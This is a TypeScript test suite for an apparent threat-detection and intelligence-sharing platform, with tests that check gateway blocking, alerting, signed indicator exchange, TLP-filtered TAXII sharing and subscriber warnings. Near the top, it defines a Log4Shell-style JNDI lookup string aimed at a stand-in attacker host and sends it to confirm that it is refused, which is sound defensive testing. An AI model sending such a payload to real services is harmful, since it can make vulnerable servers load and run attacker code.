import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test } from 'node:test'
import { listen as citizenReports } from '../../examples/marketplace/journey/listening.ts'
import { until } from '../../examples/marketplace/journey/travels.ts'
import { taxiiClient } from '../../src/exchange/index.ts'
import { form } from '../running-node.ts'
import { mailServer, startAlone } from './alone.ts'

const IN_A_WEEK = (): string => new Date(Date.now() + 7 * 86_400_000).toISOString()
const JNDI = encodeURIComponent('${jndi:ldap://cap-nhat.bad-host.vn:1389/a}')
type Alert = { id: string; observables: { value: string; role: string }[] }
const webhook = async () => {
  const bodies: string[] = []
  const server = createServer(async (req, res) => {
    let text = ''
    for await (const part of req) text += String(part)
    bodies.push(text)
    res.end('ok')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    bodies,
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`,
    // Also when the test has failed: an open listener would keep the process, and with it the whole run, for ever.
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

test('nền tảng một mình: từ chối, báo động cho người của mình, lập vụ việc, đưa chỉ dấu ra tệp có chữ ký', async () => {
  await using app = await webhook()
  await using hook = await webhook()
  await using node = await startAlone('platform', ['--upstream', new URL(app.url).origin])
  const admin = await node.staff(['administrator'])
  const analyst = await node.staff(['analyst', 'auditor'])
  await admin.ask('POST', '/api/detection/recipients', { kind: 'webhook', target: hook.url, from: 'high' })
  await assert.rejects(
    admin.ask('POST', '/api/detection/recipients', {
      kind: 'email',
      target: 'a@example.vn',
      from: 'low',
      language: 'vi',
    }),
    /people\/no-mail/,
    'without a mail server it says so',
  )
  const refused = await fetch(`${node.gateway}/?q=${JNDI}`)
  assert.equal(refused.status, 403)
  assert.equal(app.bodies.length, 0)
  const alert = await until(
    async () => (await analyst.ask<{ items: Alert[] }>('GET', '/api/detection/alerts')).items[0],
  )
  assert.ok(alert?.observables.some((o) => o.value === 'cap-nhat.bad-host.vn' && o.role === 'callback'))
  const told = await until(async () => hook.bodies[0])
  assert.match(told ?? '', /cap-nhat\.bad-host\.vn/)
  const { id } = await analyst.ask<{ id: string }>('POST', '/api/cases', { alert: alert?.id })
  const proposal = { value: 'cap-nhat.bad-host.vn', kind: 'domain', role: 'c2', confidence: 90, caseId: id }
  const indicator = await analyst.ask<{ id: string }>('POST', '/api/exchange/indicators', {
    ...proposal,
    tlp: 'green',
    validUntil: IN_A_WEEK(),
  })
  const file = await analyst.ask<{ bundle: string; signature: string; vkey: string; objects: number }>(
    'POST',
    '/api/exchange/export',
    { indicators: [indicator.id] },
  )
  assert.ok(file.objects >= 1 && file.bundle.includes('cap-nhat.bad-host.vn'))

  await using neighbour = await startAlone('authority')
  const officer = await neighbour.staff(['analyst', 'auditor'])
  const { bundle, signature, vkey } = file
  const taken = await officer.ask<{ accepted: number }>('POST', '/api/exchange/import', { bundle, signature, vkey })
  assert.ok(taken.accepted >= 1)
  await assert.rejects(
    officer.ask('POST', '/api/exchange/import', { bundle: bundle.replace('bad-host', 'good-host'), signature, vkey }),
    /exchange\//,
    'a changed file is refused',
  )
})

test('trung tâm một mình: nghe người dân, phục vụ TAXII cho bất kỳ máy khách nào', async () => {
  await using node = await startAlone('authority')
  const officer = await node.staff(['inspector', 'analyst', 'auditor'])
  const admin = await node.staff(['administrator'])
  const world = { authority: { internal: node.internal, public: node.public } } as Parameters<typeof citizenReports>[0]
  await citizenReports(
    world,
    { get: (path) => officer.ask('GET', path), send: (method, path, body) => officer.ask(method, path, body ?? {}) },
    { step: () => {}, check: (vi, _, ok, found) => assert.ok(ok, `${vi} ${found}`) },
  )
  const { user, secret } = await admin.ask<{ user: string; secret: string }>('POST', '/api/exchange/peers', {
    name: 'Nhà mạng láng giềng',
    role: 'telecom',
    maxTlp: 'green',
  })
  const share = async (value: string, tlp: string): Promise<void> => {
    const made = await officer.ask<{ id: string }>('POST', '/api/exchange/indicators', {
      value,
      kind: 'domain',
      role: 'c2',
      confidence: 80,
      tlp,
      validUntil: IN_A_WEEK(),
    })
    await officer.ask('POST', `/api/exchange/indicators/${made.id}/share`, {})
  }
  await share('xanh.bad-host.vn', 'green')
  await share('do.bad-host.vn', 'red')
  const client = taxiiClient({ root: `${node.public}/taxii2/root/`, collection: 'out', user, secret })
  const page = await client.page({ addedAfter: null, next: null, last: null })
  const text = JSON.stringify(page.objects)
  assert.ok(text.includes('xanh.bad-host.vn') && !text.includes('do.bad-host.vn'), 'TLP:RED never leaves')
  const { items } = await officer.ask<{ items: { reason: string }[] }>('GET', '/api/exchange/refusals')
  assert.ok(items.some(({ reason }) => reason === 'tlp-red'))
})

const CSV_HEAD = 'address,port_from,port_to,subscriber,start,end,device'
const ago = (minutes: number): string => new Date(Date.now() - minutes * 60_000).toISOString()

test('nhà mạng một mình: khớp, quy về đúng thuê bao, cảnh báo đúng một người một lần', async () => {
  await using post = await mailServer()
  await using node = await startAlone(
    'telecom',
    ['--own-range', '198.51.100.0/24', '--mail-from', 'canh-bao@nha-mang.vn', '--contact', '1800 0000'],
    { SMTP_URL: `smtp://127.0.0.1:${post.port}` },
  )
  const analyst = await node.staff(['analyst', 'auditor'])
  const key = await node.key(['events:write', 'subscribers:write'])
  const put = async (path: string, type: string, body: string): Promise<Record<string, unknown>> => {
    const answer = await fetch(`${node.internal}${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${key}`, 'content-type': type },
      body,
    })
    assert.equal(answer.status, 200, `${path}: ${await answer.clone().text()}`)
    return (await answer.json()) as Record<string, unknown>
  }
  const people = ['TB-an', 'TB-binh', 'TB-chi']
  await put(
    '/api/subscribers/contacts',
    'application/json',
    JSON.stringify({
      items: people.map((subscriber) => ({
        subscriber,
        name: subscriber,
        email: `${subscriber.toLowerCase()}@example.vn`,
        language: 'vi',
      })),
    }),
  )
  // An and Bình share one address; Chi has one of her own; between them a device's log has a hole.
  const log = [
    CSV_HEAD,
    `198.51.100.7,1024,2047,TB-an,${ago(600)},,cgn-1`,
    `198.51.100.7,2048,3071,TB-binh,${ago(600)},,cgn-1`,
    `198.51.100.8,0,65535,TB-chi,${ago(600)},,cgn-1`,
    `covers,,,,${ago(600)},${new Date(Date.now() + 600_000).toISOString()},cgn-1`,
  ].join('\n')
  const imported = await put('/api/subscribers/port-logs', 'text/csv', log)
  assert.deepEqual([imported['rows'], imported['refused']], [3, 0])
  await analyst.ask('PUT', '/api/subscribers/warning', { mode: 'on', cap: 100, cleanAfterDays: 7 })
  const proposal = { kind: 'domain', role: 'c2', confidence: 90, tlp: 'amber', validUntil: IN_A_WEEK() }
  const indicator = await analyst.ask<{ id: string }>('POST', '/api/exchange/indicators', {
    ...proposal,
    value: 'c2.bad-host.vn',
  })
  await analyst.ask('POST', `/api/exchange/indicators/${indicator.id}/share`, {})

  const dns = (clientAddress: string, clientPort: number | undefined, query: string): string =>
    JSON.stringify({
      kind: 'dns.query',
      time: new Date().toISOString(),
      clientAddress,
      ...(clientPort === undefined ? {} : { clientPort }),
      query,
    })
  const flow = (address: string, port: number): string =>
    JSON.stringify({
      kind: 'net.flow',
      time: new Date().toISOString(),
      clientAddress: '203.0.113.9',
      clientPort: 40_000,
      serverAddress: address,
      serverPort: port,
      protocol: 'tcp',
    })
  const events = [
    dns('198.51.100.7', 2_100, 'a.c2.bad-host.vn'),
    dns('198.51.100.7', 2_101, 'c2.bad-host.vn'),
    dns('198.51.100.7', undefined, 'c2.bad-host.vn'),
    dns('198.51.100.8', 5_000, 'tin-tuc.vn'),
    dns('203.0.113.50', 5_000, 'c2.bad-host.vn'),
    // Scanned from outside, healthy: it contacted nobody.
    flow('198.51.100.8', 445),
  ]
  await put('/api/events', 'application/x-ndjson', events.join('\n'))
  type Infection = {
    subscriber: string | null
    attribution: { result: string; why: string | null }
    state: string
    sightings: number
  }
  const found = await until(async () => {
    const { items } = await analyst.ask<{ items: Infection[] }>('GET', '/api/subscribers/infections')
    return items.some(({ state }) => state === 'warned') && items.length >= 3 ? items : undefined
  })
  assert.deepEqual(
    found
      ?.map(({ attribution, sightings }) => `${attribution.result} ${attribution.why ?? ''} ${sightings}`)
      .toSorted(),
    ['attributed  2', 'not-attributable no-port 1', 'outside not-ours 1'],
  )
  assert.deepEqual(
    post.got.map(({ to }) => to),
    ['tb-binh@example.vn'],
    'exactly the right one is warned',
  )
  const letter = post.got[0]!.text
  assert.match(letter, /c2\[\.\]bad-host\[\.\]vn/)
  assert.doesNotMatch(letter, /https?:|www\./)
  const code = /[0-9A-HJKMNP-TV-Z]{4}-[0-9A-HJKMNP-TV-Z]{4}/.exec(letter)?.[0] ?? ''
  const confirm = async (typed: string): Promise<string> =>
    (await fetch(`${node.public}/warning`, form(node.public, undefined, { code: typed }))).text()
  assert.match(await confirm(code), /do chúng tôi gửi/)
  assert.doesNotMatch(await confirm('0000-0000'), /Đúng, thư này do chúng tôi gửi/)

  await put('/api/events', 'application/x-ndjson', dns('198.51.100.7', 2_102, 'c2.bad-host.vn'))
  await until(async () => {
    const { items } = await analyst.ask<{ items: Infection[] }>('GET', '/api/subscribers/infections')
    return items.find(({ sightings }) => sightings === 3)
  })
  assert.equal(post.got.length, 1, 'seen again, warned once')
})
